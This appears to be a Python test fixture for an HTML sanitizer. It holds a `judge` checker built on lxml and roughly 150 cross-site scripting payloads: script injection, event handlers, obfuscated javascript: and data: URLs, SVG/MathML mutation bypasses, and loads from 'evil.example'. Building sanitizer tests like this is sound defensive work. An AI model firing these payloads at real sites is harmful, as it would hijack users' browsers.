"""What somebody who wants a reader's browser to obey might put into a body.

Each payload tries to run `alert(1)` or to fetch from "evil.example". `judge` says what is left of
one: an outside parser's view of every element, attribute and address.
"""

import re

from lxml import html as outside

ALLOWED = {
    "a": {"href", "data-page", "data-document", "data-suffix"},
    "img": {"alt", "class", "data-picture"},
    "figure": {"class"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
} | dict.fromkeys(
    """p h2 h3 h4 ul ol li strong em sub sup blockquote table caption thead tbody tfoot tr
    figcaption hr br pre code""".split(),
    set(),
)
_ADDRESS = re.compile(r"(?:https?:|mailto:|tel:|[/?#]|[^:]*$)", re.IGNORECASE)


def judge(html: str) -> list[str]:
    """What may not be in a cleaned body; the parser is lxml's, not the one that cleaned."""
    root = outside.fragment_fromstring(html, create_parent="div")
    found = [f"comment {node!r}" for node in root.xpath("//comment() | //processing-instruction()")]
    for element in root.iterdescendants():
        if not isinstance(element.tag, str):
            continue
        if element.tag not in ALLOWED:
            found.append(f"<{element.tag}>")
            continue
        strange = set(element.attrib) - ALLOWED[element.tag]
        found += [f"{element.tag}[{name}]" for name in strange]
        if not _ADDRESS.match(element.get("href", "").strip()):
            found.append(f"href={element.get('href')}")
    return found


_SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p>text<script\n>alert(1)</script\n></p>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<<script>alert(1)//<</script>",
    "<p>a</p><!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<%<script>alert(1)</script>%>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=&#97;lert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img data-picture=1 onload=alert(1)>",
    '<img data-picture="1&quot; onerror=alert(1) x=&quot;">',
    "<img alt='\"><script>alert(1)</script>' data-picture=1>",
    "<img alt='`onerror=alert(1) ' data-picture=1>",
    "<p onmouseover=alert(1)>text</p>",
    "<p ONCLICK=alert(1)>text</p>",
    "<p\x0conclick=alert(1)>text</p>",
    "<p/onclick=alert(1)>text</p>",
    "<a href=/x onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary>text</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<table background='javascript:alert(1)'><tr><td onclick=alert(1)>x</table>",
    '<th scope="col" onwheel=alert(1)>x</th>',
    "<xss style='animation-name:x' onanimationstart=alert(1)></xss>",
    "<p contenteditable onbeforeinput=alert(1)>x</p>",
]
_ADDRESSES = [
    f"<a href={quote}{address}{quote}>x</a>"
    for quote in ('"',)
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "&#1;javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java&#9;script:alert(1)",
        "java&#x0A;script:alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "javascript&#x3A;alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
        "&#0000106avascript:alert(1)",
        "java\x00script:alert(1)",
        "java\u200bscript:alert(1)",
        "\ufeffjavascript:alert(1)",
        "\u00a0javascript:alert(1)",
        "\u2028javascript:alert(1)",
        "javascript://%0aalert(1)",
        "javascript:/*-->*/alert(1)",
        "vbscript:msgbox(1)",
        "VBSCRIPT:msgbox(1)",
        "livescript:alert(1)",
        "mocha:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html;charset=utf-8,<script>alert(1)</script>",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "blob:https://evil.example/x",
        "filesystem:http://evil.example/x",
        "file:///etc/passwd",
        "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "jar:javascript:alert(1)!/",
        "intent://evil.example#Intent;end",
    ]
] + [
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="/x" href="javascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)" data-page="article:1">x</a>',
    '<a data-page="javascript:1">x</a>',
    '<a data-page="article:1" data-suffix="javascript:alert(1)">x</a>',
    '<a href="/x" ping="https://evil.example/">x</a>',
    '<a href="/x" target="_blank" rel="opener">x</a>',
    '<area href="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
]
_ELEMENTS = [
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(//evil.example/x)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='x:expression(alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='masthead' id='main'>x</p>",
    "<img srcset='//evil.example/x 1x' data-picture=1>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
    "<img src='javascript:alert(1)'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<picture><source srcset=//evil.example/x><img data-picture=1></picture>",
    "<video poster=javascript:alert(1)></video>",
    "<bgsound src=javascript:alert(1)>",
    "<slot name=x></slot><x-element is=x></x-element>",
    "<dialog open>x</dialog>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div data-cke-realelement='%3Cscript%3Ealert(1)%3C/script%3E'>x</div>",
    "<p data-cke-pa-onclick=alert(1)>x</p>",
]
_MUTATIONS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=//evil.example/x.js /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><noscript></noscript><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><style><!--</style><img title='--><img src=x onerror=alert(1)>'></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<style><style/><img src=x onerror=alert(1)></style>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><option><style></option></select><b><img src=x onerror=alert(1)></style></b>",
    "<table><tr><td><svg><style></table><img src=x onerror=alert(1)></style>",
    "<table><caption><svg><script>alert(1)</script></caption></table>",
    "<p><table><a href='javascript:alert(1)'>x</table></a>",
    "<a><b></a><img src=x onerror=alert(1)></b>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
    "<pre>\n<img src=x onerror=alert(1)></pre>",
    "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
    "<p>x" + "<b>" * 700 + "<img src=x onerror=alert(1)>",
    "<div>" * 700 + "<script>alert(1)</script>",
    "<div>" * 6000 + "<img src=x onerror=alert(1)>",
]

HOSTILE = _SCRIPTS + _HANDLERS + _ADDRESSES + _ELEMENTS + _MUTATIONS
